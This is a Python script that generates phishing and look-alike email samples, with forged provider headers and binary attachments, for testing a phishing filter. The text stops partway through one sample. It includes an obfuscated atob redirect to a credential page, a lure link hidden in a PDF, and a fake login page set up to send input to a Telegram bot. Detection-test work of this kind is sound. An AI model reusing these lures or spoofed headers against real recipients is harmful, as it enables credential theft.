"""Build the third blind set's samples that carry binary attachments.

Run from the repository root:

    .venv/bin/python samples/tools/build_blind3_samples.py

The third blind set (files prefixed ``b3-``) is about forty phishing messages
of 2023-2026 and some twenty-five legitimate look-alikes, written without
reading the engine and shaped as they sit in the recipient's mailbox: the
receiving provider's Received lines and Authentication-Results (Microsoft
365 / Exchange Online Protection, Gmail, Orange) above the sender's own.

Most of them are plain text and written by hand. The ones below need bytes
that a program must produce: a voicemail HTML attachment that redirects, an
eFax PDF whose only link is in the PDF, an invoice HTML page that posts to a
Telegram bot, a QR code PNG asking for MFA re-registration, an iCloud notice
that is one picture, and two legitimate messages (a customer's remittance
advice in PDF and an event ticket carrying a QR code).

The text-only messages were written by hand with the same header helpers
(``gmail_in``, ``m365_in``, ``orange_in``, ``dkim``) and are kept as written;
this script only rebuilds the seven below. DKIM signatures, ARC seals and
antispam stamps have the right shape but are not real signatures. Output is
deterministic. ``tools/blind3_manifest.txt`` lists every b3 file with its
verdict and what a filter must notice.
"""

from __future__ import annotations

import base64
import hashlib
import io
import quopri
import textwrap
import zlib
from datetime import datetime, timedelta, timezone
from email.header import Header
from pathlib import Path
from zoneinfo import ZoneInfo

import files

ROOT = Path(__file__).resolve().parents[1] / "mail"

B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
HEX = "0123456789abcdef"
ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
UPALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"


# --------------------------------------------------------------------------
# deterministic filler: ids, signatures, dates


def rnd(seed: str, n: int, alphabet: str = B64) -> str:
    """``n`` characters of ``alphabet``, a pure function of ``seed``."""
    out = []
    counter = 0
    while len(out) < n:
        digest = hashlib.sha256(f"{seed}:{counter}".encode()).digest()
        out.extend(alphabet[b % len(alphabet)] for b in digest)
        counter += 1
    return "".join(out[:n])


def rb64(seed: str, nbytes: int) -> str:
    """Base64 of ``nbytes`` pseudo-random bytes (a well-formed hash or signature value)."""
    data = b""
    counter = 0
    while len(data) < nbytes:
        data += hashlib.sha256(f"{seed}/{counter}".encode()).digest()
        counter += 1
    return base64.b64encode(data[:nbytes]).decode("ascii")


def hexs(seed: str, n: int) -> str:
    return rnd(seed, n, HEX)


def digits(seed: str, n: int) -> str:
    return rnd(seed, n, "0123456789")


def guid(seed: str) -> str:
    h = hexs(seed, 32)
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def when(text: str) -> datetime:
    """A UTC instant written ``YYYY-MM-DD HH:MM:SS``."""
    return datetime.strptime(text, "%Y-%m-%d %H:%M:%S").replace(tzinfo=timezone.utc)


def rfc(dt: datetime, zone: str = "UTC", comment: bool = False, seconds: float = 0) -> str:
    """RFC 5322 date of ``dt`` + ``seconds`` in ``zone`` (with ``(CEST)`` when asked)."""
    local = (dt + timedelta(seconds=seconds)).astimezone(ZoneInfo(zone))
    text = local.strftime("%a, %d %b %Y %H:%M:%S %z")
    if comment:
        text += f" ({local.strftime('%Z')})"
    return text


def b64(data: bytes | str) -> str:
    if isinstance(data, str):
        data = data.encode("utf-8")
    text = base64.b64encode(data).decode("ascii")
    return "\n".join(textwrap.wrap(text, 76))


def qp(text: str) -> str:
    return quopri.encodestring(text.encode("utf-8")).decode("ascii")


def hdr(text: str) -> str:
    """An RFC 2047 encoded header value for non-ASCII text (as most senders write it)."""
    try:
        text.encode("ascii")
        return text
    except UnicodeEncodeError:
        return Header(text, "utf-8").encode(maxlinelen=76)


def sig_value(seed: str, length: int = 344, indent: str = "\t ") -> str:
    """A base64 blob the size of an RSA-2048 signature, folded."""
    blob = rb64(seed, length * 3 // 4 - 2)
    lines = textwrap.wrap(blob, 70)
    return ("\n" + indent).join(lines)


def dkim(d: str, s: str, seed: str, dt: datetime,
         h: str = "from:to:subject:date:message-id:mime-version:content-type",
         i: str | None = None, a: str = "rsa-sha256") -> str:
    t = int(dt.timestamp()) - 2
    ident = f" i={i};" if i else ""
    return (f"DKIM-Signature: v=1; a={a}; c=relaxed/relaxed; d={d};{ident}\n"
            f"\ts={s}; t={t};\n"
            f"\th={h};\n"
            f"\tbh={rb64(seed + 'bh', 32)};\n"
            f"\tb={sig_value(seed + 'b')}")


# --------------------------------------------------------------------------
# the receiving provider's stamps


def _arc_selector(dt: datetime) -> str:
    return "arc-20240605" if dt >= when("2024-06-20 00:00:00") else "arc-20160816"


def gmail_in(rcpt: str, dt: datetime, ip: str, helo: str, mailfrom: str, spf: str,
             dkims: list[tuple[str, str, str]], dmarc: tuple[str, str, str, str, str] | None,
             seed: str, rdns: str | None = None, google_sender: bool = False) -> str:
    """Gmail's headers above the sender's: Delivered-To, internal hops, ARC, Return-Path,
    the MX hop, Received-SPF and Authentication-Results.

    ``dkims`` are (domain, selector, result); ``dmarc`` is (result, p, sp, dis, from
    domain) or None when the From domain publishes no record."""
    pac = "America/Los_Angeles"
    rdns = rdns or helo
    mailfrom_dom = mailfrom.split("@")[-1]
    spf_text = {
        "pass": f"pass (google.com: domain of {mailfrom} designates {ip} as permitted sender)",
        "softfail": f"softfail (google.com: domain of transitioning {mailfrom} does not designate {ip} as permitted sender)",
        "fail": f"fail (google.com: domain of {mailfrom} does not designate {ip} as permitted sender)",
        "neutral": f"neutral (google.com: {ip} is neither permitted nor denied by best guess record for domain of {mailfrom})",
        "none": f"none (google.com: {mailfrom_dom} does not designate permitted sender hosts)",
    }[spf]
    results = []
    for d, s, res in dkims:
        extra = " (body hash did not verify)" if res in ("fail", "neutral") else ""
        results.append(f"dkim={res}{extra} header.i=@{d} header.s={s} header.b={rnd(seed + d + s, 8)}")
    results.append(f"spf={spf_text} smtp.mailfrom={mailfrom}")
    if dmarc:
        res, p, sp, dis, from_domain = dmarc
        results.append(f"dmarc={res} (p={p} sp={sp} dis={dis}) header.from={from_domain}")
    ar_body = ";\n       ".join(results)
    t0 = int(dt.timestamp())
    mx_id = (f"{hexs(seed + 'mx1', 12)}-{hexs(seed + 'mx2', 11)}si{digits(seed + 'mx3', 7)}"
             f"{rnd(seed + 'mx4', 3, 'abcdefghijklmnopqrstuvwxyz')}.{int(digits(seed + 'mx5', 3)) % 200}."
             f"{dt.astimezone(ZoneInfo(pac)).strftime('%Y.%m.%d.%H.%M.%S')}")
    via = "SMTPS" if google_sender else "ESMTPS"
    tls = ("(Google Transport Security);" if google_sender
           else "(version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);")
    return f"""\
Delivered-To: {rcpt}
Received: by 2002:a05:{hexs(seed + 'r1', 4)}:{hexs(seed + 'r2', 4)}:b0:{hexs(seed + 'r3', 3)}:{hexs(seed + 'r4', 4)}:{hexs(seed + 'r5', 4)} with SMTP id {rnd(seed + 'r6', 4, 'abcdefghijklmnopqrstuvwxyz0123456789')}csp{digits(seed + 'r7', 7)}{rnd(seed + 'r8', 3, 'abcdefghijklmnopqrstuvwxyz')};
        {rfc(dt, pac, True, 1)}
X-Google-Smtp-Source: AGHT+I{rnd(seed + 'gs', 94)}
X-Received: by 2002:a05:{hexs(seed + 'x1', 4)}:{hexs(seed + 'x2', 4)}:b0:{hexs(seed + 'x3', 3)}:{hexs(seed + 'x4', 4)}:{hexs(seed + 'x5', 4)} with SMTP id {rnd(seed + 'x6', 40, 'abcdefghijklmnopqrstuvwxyz0123456789')}.{digits(seed + 'x7', 2)}.{t0}{digits(seed + 'x8', 3)};
        {rfc(dt, pac, True, 1)}
ARC-Seal: i=1; a=rsa-sha256; t={t0}; cv=none;
        d=google.com; s={_arc_selector(dt)};
        b={sig_value(seed + 'as', 344, '        ')}
ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s={_arc_selector(dt)};
        h=to:subject:message-id:date:from:mime-version:dkim-signature;
        bh={rb64(seed + 'ambh', 32)};
        fh={rb64(seed + 'amfh', 32)};
        b={sig_value(seed + 'amb', 344, '        ')}
ARC-Authentication-Results: i=1; mx.google.com;
       {ar_body}
Return-Path: <{mailfrom}>
Received: from {helo} ({rdns}. [{ip}])
        by mx.google.com with {via} id {mx_id}
        for <{rcpt}>
        {tls}
        {rfc(dt, pac, True)}
Received-SPF: {spf_text} client-ip={ip};
Authentication-Results: mx.google.com;
       {ar_body}
"""


def _m365_build(dt: datetime) -> str:
    months = (dt.year - 2023) * 12 + dt.month - 1
    return f"15.20.{6000 + months * 105 + dt.day * 2}.{10 + dt.day}"


def m365_in(rcpt: str, dt: datetime, ip: str, helo: str, mailfrom: str, spf: str,
            dkim_res: tuple[str, str] | None, dmarc: tuple[str, str], from_domain: str,
            compauth: tuple[str, str], seed: str, ctry: str = "US", lang: str = "en",
            scl: int = 1, bcl: int = 0, consumer: bool = False, europe: bool = True,
            ptr: str | None = None, dest: str = "I") -> tuple[str, str]:
    """Exchange Online's stamps: the Received chain and Authentication-Results on top,
    the X-MS-Exchange-* block (with Return-Path) below the sender's headers.

    ``dkim_res`` is (domain, result) or None; ``dmarc`` is (result, action)."""
    mailfrom_dom = mailfrom.split("@")[-1] if mailfrom else helo
    build = _m365_build(dt)
    if consumer and not europe:
        mbx = f"SA1P223MB{digits(seed + 'm', 4)}.NAMP223.PROD.OUTLOOK.COM"
        ca = f"BN9PR03CA{digits(seed + 'c', 4)}.namprd03.prod.outlook.com"
        epf = f"BN2PEPF0000{rnd(seed + 'e', 4, '0123456789ABCDEF')}.namprd04.prod.outlook.com"
        v6 = "2603:10b6"
    elif consumer:
        mbx = f"DB8P191MB{digits(seed + 'm', 4)}.EURP191.PROD.OUTLOOK.COM"
        ca = f"AS9PR06CA{digits(seed + 'c', 4)}.eurprd06.prod.outlook.com"
        epf = f"AMS0EPF0000{rnd(seed + 'e', 4, '0123456789ABCDEF')}.eurprd04.prod.outlook.com"
        v6 = "2603:10a6"
    else:
        mbx = f"PR1P264MB{digits(seed + 'm', 4)}.FRAP264.PROD.OUTLOOK.COM"
        ca = f"PR0P264CA{digits(seed + 'c', 4)}.FRAP264.PROD.OUTLOOK.COM"
        epf = f"PA1PEPF0000{rnd(seed + 'e', 4, '0123456789ABCDEF')}.FRAP264.PROD.OUTLOOK.COM"
        v6 = "2603:10a6"
    mbx6 = f"{v6}:102:{hexs(seed + 'a', 3)}::{hexs(seed + 'b', 2)}"
    ca6 = f"{v6}:10:{hexs(seed + 'c6', 3)}::{hexs(seed + 'd', 2)}"
    epf6 = f"{v6}:10:{hexs(seed + 'c6', 3)}:cafe::{hexs(seed + 'f', 2)}"
    ca_short = ca.split(".")[0] + ".outlook.office365.com"
    epf_mail = epf.split(".")[0] + ".mail.protection.outlook.com"
    spf_ar = {
        "pass": f"spf=pass (sender IP is {ip})\n smtp.mailfrom={mailfrom_dom}",
        "softfail": f"spf=softfail (sender IP is {ip})\n smtp.mailfrom={mailfrom_dom}",
        "fail": f"spf=fail (sender IP is {ip})\n smtp.mailfrom={mailfrom_dom}",
        "none": f"spf=none (sender IP is {ip})\n smtp.mailfrom={mailfrom_dom}",
        "neutral": f"spf=neutral (sender IP is {ip})\n smtp.mailfrom={mailfrom_dom}",
        "temperror": f"spf=temperror (sender IP is {ip})\n smtp.helo={helo}",
    }[spf]
    spf_recv = {
        "pass": f"Pass (protection.outlook.com: domain of {mailfrom_dom} designates\n {ip} as permitted sender)",
        "softfail": f"SoftFail (protection.outlook.com: domain of transitioning\n {mailfrom_dom} discourages use of {ip} as permitted sender)",
        "fail": f"Fail (protection.outlook.com: domain of {mailfrom_dom} does not\n designate {ip} as permitted sender)",
        "none": f"None (protection.outlook.com: {mailfrom_dom} does not designate\n permitted sender hosts)",
        "neutral": f"Neutral (protection.outlook.com: {ip} is neither permitted nor\n denied by domain of {mailfrom_dom})",
        "temperror": f"TempError (protection.outlook.com: error in processing during\n lookup of {mailfrom_dom}: DNS Timeout)",
    }[spf]
    if dkim_res is None:
        dkim_ar = "dkim=none (message not signed)\n header.d=none"
    elif dkim_res[1] == "pass":
        dkim_ar = f"dkim=pass (signature was verified)\n header.d={dkim_res[0]}"
    else:
        dkim_ar = f"dkim=fail (body hash did not verify)\n header.d={dkim_res[0]}"
    dmarc_ar = f"dmarc={dmarc[0]} action={dmarc[1]}\n header.from={from_domain}"
    ar = f"Authentication-Results: {spf_ar}; {dkim_ar};{dmarc_ar};compauth={compauth[0]}\n reason={compauth[1]}"
    t = dt
    top = f"""\
Received: from {mbx} ({mbx6}) by
 {mbx.replace(digits(seed + 'm', 4), digits(seed + 'm2', 4))} with HTTPS; {rfc(t, seconds=2)}
Received: from {ca} ({ca6}) by
 {mbx} ({mbx6}) with Microsoft SMTP Server
 (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {build};
 {rfc(t, seconds=1)}
Received: from {epf}
 ({epf6}) by {ca_short}
 ({ca6}) with Microsoft SMTP Server (version=TLS1_3,
 cipher=TLS_AES_256_GCM_SHA384) id {build} via Frontend Transport;
 {rfc(t, seconds=1)}
{ar}
Received-SPF: {spf_recv}
 receiver=protection.outlook.com; client-ip={ip}; helo={helo}; pr=C
Received: from {helo} ({ip}) by
 {epf_mail} ({'10.167.' + str(int(digits(seed + 'i1', 3)) % 250) + '.' + str(int(digits(seed + 'i2', 3)) % 250)}) with Microsoft SMTP
 Server (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id {build}
 via Frontend Transport; {rfc(t)}
"""
    netid = guid(seed + "net")
    tenant = "7c1f4a2e-5b83-4d0e-9a61-3f2be8c94d17" if not consumer else "84df9e7f-e9f6-40af-b435-aaaaaaaaaaaa"
    sfv = "SPM" if scl >= 5 else "NSPM"
    cat = "SPM" if scl >= 5 else "NONE"
    if dest == "J" or scl >= 5:
        dest = "J"
    sfs = "".join(f"({digits(seed + 'sfs' + str(k), 8 + k % 4)})" for k in range(7))
    ptr = ptr or helo
    bottom = f"""\
Return-Path: {mailfrom or '<>'}
X-MS-Exchange-Organization-ExpirationStartTime: {(t).strftime('%d %b %Y %H:%M:%S')}.{digits(seed + 'ms', 4)}
 (UTC)
X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit
X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000
X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit
X-MS-Exchange-Organization-Network-Message-Id:
 {netid}
X-EOPAttributedMessage: 0
X-EOPTenantAttributedMessage: {tenant}:0
X-MS-Exchange-Organization-MessageDirectionality: Incoming
X-MS-PublicTrafficType: Email
X-MS-TrafficTypeDiagnostic:
 {epf.split('.')[0]}:EE_|{mbx.split('.')[0]}:EE_
X-MS-Exchange-Organization-AuthSource:
 {epf}
X-MS-Exchange-Organization-AuthAs: Anonymous
X-MS-Office365-Filtering-Correlation-Id: {guid(seed + 'corr')}
X-MS-Exchange-Organization-SCL: {scl}
X-Microsoft-Antispam: BCL:{bcl};ARA:13230040|{digits(seed + 'ara1', 11)}|{digits(seed + 'ara2', 10)};
X-Forefront-Antispam-Report:
 CIP:{ip};CTRY:{ctry};LANG:{lang};SCL:{scl};SRV:{'BULK' if bcl >= 7 else ''};IPV:NLI;SFV:{sfv};H:{helo};PTR:{ptr};CAT:{cat};SFS:{sfs};DIR:INB;
X-MS-Exchange-CrossTenant-OriginalArrivalTime: {t.strftime('%d %b %Y %H:%M:%S')}.{digits(seed + 'oat', 4)}
 (UTC)
X-MS-Exchange-CrossTenant-Network-Message-Id: {netid}
X-MS-Exchange-CrossTenant-Id: {tenant}
X-MS-Exchange-CrossTenant-AuthSource:
 {epf}
X-MS-Exchange-CrossTenant-AuthAs: Anonymous
X-MS-Exchange-CrossTenant-FromEntityHeader: Internet
X-MS-Exchange-Transport-CrossTenantHeadersStamped: {mbx.split('.')[0]}
X-MS-Exchange-Transport-EndToEndLatency: 00:00:0{int(digits(seed + 'lat', 1)) % 4 + 1}.{digits(seed + 'lat2', 7)}
X-MS-Exchange-Processed-By-BccFoldering: {build}
X-Microsoft-Antispam-Mailbox-Delivery:
 {'abwl:0;wl:0;pcwl:0;kl:0;dwl:0;dkl:0;rwl:0;' if consumer else ''}ucf:0;jmr:0;auth:0;dest:{dest};ENG:(910005)(944506478)(944626604)(920097)(930097)(3100021)(140003)(1420198);
X-Microsoft-Antispam-Message-Info:
 {rnd(seed + 'mi1', 76)}
 {rnd(seed + 'mi2', 76)}
 {rnd(seed + 'mi3', 60)}=
"""
    return top, bottom


def orange_in(rcpt: str, dt: datetime, ip: str, helo: str, mailfrom: str, spf: str,
              dkim_res: tuple[str, str] | None, dmarc: str | None, from_domain: str, seed: str) -> str:
    """Orange's inbound stamps (opmta relays, X-ME-* headers, Authentication-Results)."""
    host = f"opmta1mto{digits(seed + 'h', 2)}nd1"
    parts = [f"spf={spf} smtp.mailfrom={mailfrom}"]
    parts.append(f"dkim={dkim_res[1]} header.d={dkim_res[0]}" if dkim_res else "dkim=none")
    parts.append(f"dmarc={dmarc or 'none'} header.from={from_domain}")
    results = ";\n\t".join(parts)
    return f"""\
Return-Path: <{mailfrom}>
Received: from {host} ([10.{int(digits(seed + 'a', 2)) % 40}.{int(digits(seed + 'b', 3)) % 250}.{int(digits(seed + 'c', 3)) % 250}])
\tby {host.replace('mto', 'mfo')} with LMTPA
\tid {rnd(seed + 'l', 20, ALNUM)}
\t(envelope-from <{mailfrom}>)
\tfor <{rcpt}>; {rfc(dt, 'Europe/Paris', True, 1)}
Received: from {helo} ([{ip}])
\tby {host} with ME
\tid {rnd(seed + 'me', 14, ALNUM)}; {rfc(dt, 'Europe/Paris', True)}
X-ME-Helo: {helo}
X-ME-IP: {ip}
X-ME-Date: {rfc(dt, 'Europe/Paris')}
X-ME-Entity: ofr
Authentication-Results: {host}.mail.orange.fr;
\t{results}
"""


def assemble(top: str, sender: str, body: str, bottom: str = "") -> str:
    """Receiving stamps + the sender's headers (+ Exchange's block) + blank line + body."""
    return top + sender.rstrip("\n") + "\n" + bottom + "\n" + body


def write(folder: str, name: str, text: str) -> None:
    path = ROOT / folder / name
    data = text.replace("\r\n", "\n")
    path.write_bytes(data.encode("utf-8"))
    print("wrote", path.relative_to(ROOT.parent.parent))


# --------------------------------------------------------------------------
# attachment builders


def pdf(lines: list[tuple[int, int, int, str]], links: list[tuple[tuple[int, int, int, int], str]] = (),
        title: str = "", producer: str = "Microsoft: Print To PDF", images: list[tuple[bytes, tuple[int, int, int, int]]] = ()) -> bytes:
    """A one-page PDF: ``lines`` are (x, y, size, text) in Helvetica, ``links`` are
    ((x1, y1, x2, y2), uri) link annotations drawn as blue buttons. Content is Flate-compressed."""

    def esc(s: str) -> str:
        return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")

    ops = []
    for (x1, y1, x2, y2), _ in links:
        ops.append(f"0.08 0.36 0.74 rg {x1} {y1} {x2 - x1} {y2 - y1} re f 0 0 0 rg")
    for x, y, size, text in lines:
        ops.append(f"BT /F1 {size} Tf {x} {y} Td ({esc(text)}) Tj ET")
    stream = zlib.compress("\n".join(ops).encode("latin-1"), 9)
    annots = " ".join(f"{6 + i} 0 R" for i in range(len(links)))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        ("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
         "/Contents 5 0 R" + (f" /Annots [{annots}]" if links else "") + " >>").encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
    ]
    for (x1, y1, x2, y2), uri in links:
        objects.append(f"<< /Type /Annot /Subtype /Link /Rect [{x1} {y1} {x2} {y2}] /Border [0 0 0] "
                       f"/A << /S /URI /URI ({esc(uri)}) >> >>".encode())
    info_no = len(objects) + 1
    objects.append(f"<< /Title ({esc(title)}) /Producer ({esc(producer)}) "
                   f"/CreationDate (D:20240101000000Z) >>".encode())
    return files.pdf_file(objects, info_no)


def qr_png(data: str, scale: int = 6) -> bytes:
    import segno

    buf = io.BytesIO()
    segno.make(data, error="m", micro=False).save(buf, kind="png", scale=scale, border=4)
    return buf.getvalue()


def _font(size: int, bold: bool = False):
    from PIL import ImageFont

    name = "DejaVuSans-Bold.ttf" if bold else "DejaVuSans.ttf"
    for folder in ("/usr/share/fonts/truetype/dejavu", "/usr/share/fonts/dejavu", "/usr/share/fonts/TTF"):
        path = Path(folder) / name
        if path.exists():
            return ImageFont.truetype(str(path), size)
    return ImageFont.load_default(size=size)


def text_picture(rows: list[tuple[str, int, bool, tuple[int, int, int]]], width: int = 600,
                 button: tuple[str, tuple[int, int, int]] | None = None) -> bytes:
    """A PNG of text rows (text, size, bold, colour) on white, with an optional button,
    the way kits render a whole notice as one picture so no text is left to read."""
    from PIL import Image, ImageDraw

    height = 60 + sum(size + 18 for _, size, _, _ in rows) + (90 if button else 0)
    image = Image.new("RGB", (width, height), (255, 255, 255))
    draw = ImageDraw.Draw(image)
    y = 30
    for text, size, bold, colour in rows:
        draw.text((40, y), text, font=_font(size, bold), fill=colour)
        y += size + 18
    if button:
        label, colour = button
        draw.rounded_rectangle([40, y + 14, 300, y + 62], radius=24, fill=colour)
        draw.text((64, y + 26), label, font=_font(18, True), fill=(255, 255, 255))
    out = io.BytesIO()
    image.save(out, "PNG", optimize=True)
    return out.getvalue()


# --------------------------------------------------------------------------
# phishing: voicemail notice whose .htm attachment redirects to a login page


def voicemail_htm() -> None:
    t = when("2024-05-07 08:14:52")
    rcpt = "accueil@kerlann-industries.fr"
    target = "https://vm-audio-playback.cfd/m365/listen/?vm=0507-0042"
    page = (
        "<!DOCTYPE html>\n<html>\n<head>\n<meta charset=\"utf-8\">\n<title>Voice Message Playback</title>\n"
        "<style>body{font-family:Segoe UI,Arial;background:#f3f2f1;text-align:center;padding-top:120px}"
        ".l{width:40px;height:40px;border:4px solid #ddd;border-top-color:#0078d4;border-radius:50%;"
        "margin:20px auto;animation:s 1s linear infinite}@keyframes s{to{transform:rotate(360deg)}}</style>\n"
        "</head>\n<body>\n<p>Loading your voice message&hellip;</p><div class=\"l\"></div>\n<script>\n"
        f"var _0x1a=\"{base64.b64encode(target.encode()).decode()}\";\n"
        f"var _0x2b=\"{base64.b64encode(rcpt.encode()).decode()}\";\n"
        "setTimeout(function(){window.location.replace(atob(_0x1a)+'#'+_0x2b);},900);\n"
        "</script>\n</body>\n</html>\n"
    )
    top, bottom = m365_in(rcpt, t, "91.215.85.143", "mail.cloudpbx-notify.net", "vmail@cloudpbx-notify.net", "pass",
                          None, ("bestguesspass", "none"), "cloudpbx-notify.net", ("pass", "109"), "vm",
                          ctry="LT", lang="en")
    bnd = f"----=_NextPart_000_{hexs('vm-b', 4).upper()}_{hexs('vm-b2', 8).upper()}.{hexs('vm-b3', 8).upper()}"
    sender = f"""\
Received: from WIN-2PF7AKQ0U9L (unknown [91.215.85.143])
	by mail.cloudpbx-notify.net (Postfix) with ESMTPA id 4VYr7d1Nfxz4wLk
	for <{rcpt}>; {rfc(t, 'Europe/Vilnius', seconds=-1)}
From: "Voice Mail Service" <vmail@cloudpbx-notify.net>
To: <{rcpt}>
Subject: =?utf-8?Q?=F0=9F=94=8A_New_voice_message_from_+33_2_99_*****_41_=2800:42=29?=
Date: {rfc(t, 'Europe/Paris', seconds=-3)}
Message-ID: <{hexs('vm-mid', 12).upper()}$0{hexs('vm-mid2', 9)}$@cloudpbx-notify.net>
MIME-Version: 1.0
Content-Type: multipart/mixed;
	boundary="{bnd}"
X-Mailer: Microsoft Outlook 16.0
"""
    html = ("<html><body style=\"font-family:Segoe UI,Arial,sans-serif;font-size:14px\">"
            "<table style=\"border:1px solid #ccc;width:480px\" cellpadding=\"8\">"
            "<tr><td colspan=\"2\" style=\"background:#0078d4;color:#fff;font-size:16px\"><b>Voice Mail</b></td></tr>"
            f"<tr><td>From:</td><td>+33 2 99 *** *41</td></tr><tr><td>To:</td><td>{rcpt}</td></tr>"
            "<tr><td>Received:</td><td>Tuesday, 7 May 2024 10:13</td></tr><tr><td>Duration:</td><td>00:00:42</td></tr>"
            "<tr><td colspan=\"2\">You received a new voice message. Open the attached audio file to listen to it in your "
            "browser.</td></tr></table></body></html>\n")
    body = "This is a multipart message in MIME format.\n\n" + (
        f"--{bnd}\nContent-Type: text/html; charset=\"utf-8\"\nContent-Transfer-Encoding: quoted-printable\n\n{qp(html)}\n"
        f"--{bnd}\nContent-Type: text/html; name=\"VM_Playback_0507_0042.htm\"\nContent-Transfer-Encoding: base64\n"
        f"Content-Disposition: attachment; filename=\"VM_Playback_0507_0042.htm\"\n\n{b64(page)}\n\n--{bnd}--\n")
    write("phishing", "b3-voicemail-htm-attachment-atob-redirect-en.eml", assemble(top, sender, body, bottom))


# --------------------------------------------------------------------------
# phishing: eFax notice, the link only in the PDF (Azure static website), via SMTP2GO


def efax_pdf() -> None:
    t = when("2023-11-28 15:26:19")
    rcpt = "compta@kerlann-industries.fr"
    url = f"https://efaxdocview.z13.web.core.windows.net/?doc=FX-3P-112823&e={base64.b64encode(rcpt.encode()).decode()}"
    data = pdf(
        [
            (60, 780, 24, "eFax"),
            (60, 750, 12, "Fax Message Received  -  3 page(s)"),
            (60, 720, 10, "Caller ID: +1 646-555-0182        Received: 11/28/2023 10:24 AM EST"),
            (60, 704, 10, "Document type: Signed agreement / Payment instructions"),
            (60, 670, 10, "This fax is secured by eFax Secure Document Delivery. Preview is disabled"),
            (60, 656, 10, "for protected documents. Click below to view the full document."),
            (78, 614, 13, "VIEW FAX DOCUMENT"),
            (60, 560, 8, "(c) 2023 Consensus Cloud Solutions, Inc. eFax is a registered trademark."),
        ],
        [((62, 604, 250, 634), url)],
        title="Fax Message 3 pages",
        producer="Skia/PDF m119",
    )
    mf = f"bounce-{digits('fx-bn', 6)}-{hexs('fx-bn2', 10)}@em{digits('fx-em', 6)}.efaxmessenger-online.com"
    top, bottom = m365_in(rcpt, t, "103.2.140.99", "e2i411.smtp2go.com", mf, "pass",
                          ("efaxmessenger-online.com", "pass"), ("bestguesspass", "none"), "efaxmessenger-online.com",
                          ("pass", "109"), "efax", ctry="US", lang="en", ptr="e2i411.smtp2go.com")
    bnd = f"b1_{rnd('efax-b', 40, ALNUM)}"
    sender = f"""\
Received: from [10.66.228.43] (helo=SmtpCorp)
	by smtpcorp.com with esmtpsa (TLS1.3:ECDHE_X25519__RSA_PSS_RSAE_SHA256__AES_256_GCM:256)
	(Exim 4.96.1-S2G)
	(envelope-from <{mf}>)
	id 1r7zQx-{rnd('efax-x', 6, ALNUM)}-Lm
	for {rcpt};
	{rfc(t, seconds=-2)}
{dkim('efaxmessenger-online.com', 's{0}'.format(digits('efax-s', 6)), 'efax-d1', t, h='Content-Type:MIME-Version:Message-ID:Subject:To:From:Date')}
{dkim('smtpservice.net', 'maxzs0.a1-4.dyn', 'efax-d2', t, h='Feedback-ID:To:Subject:Message-ID:Date:From:MIME-Version:Content-Type')}
Date: {rfc(t, seconds=-3)}
To: {rcpt}
From: eFax <message@efaxmessenger-online.com>
Subject: eFax message from "+1 646-555-0182" - 3 page(s), Caller-ID: 16465550182
Message-ID: <{rnd('efax-mid', 40, ALNUM)}@efaxmessenger-online.com>
MIME-Version: 1.0
Content-Type: multipart/mixed;
 boundary="{bnd}"
Feedback-ID: {digits('efax-fb', 6)}m:{digits('efax-fb2', 6)}aOG2ejX:{digits('efax-fb3', 6)}s{rnd('efax-fb4', 10, ALNUM)}
X-smtpcorp-track: {rnd('efax-track', 30, ALNUM)}.{rnd('efax-track2', 12, ALNUM)}
X-Report-Abuse: Please forward a copy of this message, including all headers, to <abuse-report@smtp2go.com>
"""
    text = """You have received a 3 page fax at 2023-11-28 10:24:31 EST.

* The reference number for this fax is atl_did1-1701185071-16465550182-88.

Please open the attached PDF to view your fax document.

Thank you for using the eFax service!
"""
    body = "This is a multi-part message in MIME format.\n" + (
        f"--{bnd}\nContent-Type: text/plain; charset=us-ascii\nContent-Transfer-Encoding: 7bit\n\n{text}\n"
        f"--{bnd}\nContent-Type: application/pdf; name=\"eFax_3pages_112823.pdf\"\nContent-Transfer-Encoding: base64\n"
        f"Content-Disposition: attachment; filename=\"eFax_3pages_112823.pdf\"\n\n{b64(data)}\n\n--{bnd}--\n")
    write("phishing", "b3-efax-pdf-link-azure-static-web-smtp2go-en.eml", assemble(top, sender, body, bottom))


# --------------------------------------------------------------------------
# phishing: invoice whose HTML attachment is a login page posting to a Telegram bot


def invoice_html_telegram() -> None:
    t = when("2025-07-16 07:49:03")
    rcpt = "facturation@kerlann-industries.fr"
    frm = "atelier.guegan@wanadoo.fr"
    bot = "bot7412986533:AAF" + rnd("tg-token", 32, ALNUM + "-_")
    chat = "-100" + digits("tg-chat", 10)
    api = base64.b64encode(f"https://api.telegram.org/{bot}/sendMessage".encode()).decode()
    page = f"""<!DOCTYPE html>
<html lang="fr">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Facture FA-2025-07-5521 - Document Excel en ligne</title>
<style>
body{{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:url('https://aadcdn.msauth.net/shared/1.0/content/images/backgrounds/2_bc3d32a696895f78c19df6c717586a5d.svg') center/cover}}
.box{{width:340px;margin:90px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}}
input{{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;margin:10px 0;font-size:15px}}
button{{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right;font-size:15px}}
.err{{color:#e81123;font-size:13px;display:none}}
</style>
</head>
<body>
<div class="box">
